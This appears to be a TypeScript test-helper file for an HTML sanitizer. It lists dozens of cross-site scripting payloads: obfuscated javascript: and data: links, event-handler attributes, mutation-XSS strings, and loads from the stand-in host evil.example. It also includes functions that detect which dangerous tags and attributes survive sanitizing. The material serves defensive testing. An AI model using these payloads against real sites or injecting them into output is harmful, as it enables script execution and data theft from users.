/** Carriers of a script, each in its own way around a filter; `alert(1)` is what would run. */
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/\t/evil.example/x',
]

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'onpointerenter',
  'ontoggle',
  'onbeforeinput',
  'ONCLICK',
]
const TAGS = [
  'img src=x',
  'svg',
  'p',
  'details open',
  'video',
  'audio',
  'body',
  'a href=/x',
  'marquee',
  'input',
]

const WHOLE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p class="MuiDialog-root" id="root">x</p>',
  '<img src=https://evil.example/pixel.gif>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p></xmp><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="/x" target="_top" ping="https://evil.example">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<p data-align="left;position:fixed">x</p>',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

/** HTML that tries to run a script, load a foreign file or leave its place on the page. */
export function hostileHtml(): readonly string[] {
  return [
    ...WHOLE,
    ...SCHEMES.flatMap((href) => [`<a href="${href}">x</a>`, `<p><a href='${href}'><b>x</b></a></p>`]),
    ...EVENTS.flatMap((event) => TAGS.map((tag) => `<${tag} ${event}=alert(1)>x`)),
  ]
}

/** Attributes and elements that clean HTML must not have, read by the browser's own parser. */
export function dangersOf(html: string): string[] {
  const body = new DOMParser().parseFromString(html, 'text/html').body
  return [...body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase()
    const isAllowed = /^(p|h[1-6]|blockquote|pre|ul|ol|li|strong|b|em|i|u|code|mark|br|a)$/.test(tag)
    const attributes = element.getAttributeNames().flatMap((name) => {
      const value = element.getAttribute(name) ?? ''
      if (name === 'data-align' && /^(left|center|right|justify)$/.test(value)) return []
      if (name === 'href' && /^(\/(?![/\\\s])|https?:\/\/|mailto:|tel:)/.test(value)) return []
      return [`${tag} ${name}=${value}`]
    })
    return isAllowed ? attributes : [tag, ...attributes]
  })
}

/** The schemes that no link may have. */
export const HOSTILE_LINKS = SCHEMES

const FORBIDDEN =
  'script, iframe, object, embed, form, style, link, svg, math, base, meta, template, input, video, audio'
/** The router marks its links with data-discover. */
const IN_TEXT = ['href', 'rel', 'data-align', 'data-discover']

/** Parts of the rendered page that run, load or lead to something foreign, or that leave their place. */
export function partsWithEffect(page: Element): string[] {
  const faults = [...page.querySelectorAll(FORBIDDEN)].map(({ tagName }) => tagName)
  for (const element of page.querySelectorAll('*')) {
    const isText = element.parentElement?.closest('[class*="text"]') !== null
    for (const name of element.getAttributeNames()) {
      const value = element.getAttribute(name) ?? ''
      const isBad =
        name.startsWith('on') ||
        (name === 'src' && !value.startsWith('/img/')) ||
        (name === 'href' && !/^(\/(?![/\\\s])|https?:\/\/|mailto:|tel:)/.test(value)) ||
        (isText && !IN_TEXT.includes(name))
      if (isBad) faults.push(`${element.tagName} ${name}=${value}`)
    }
  }
  return faults
}
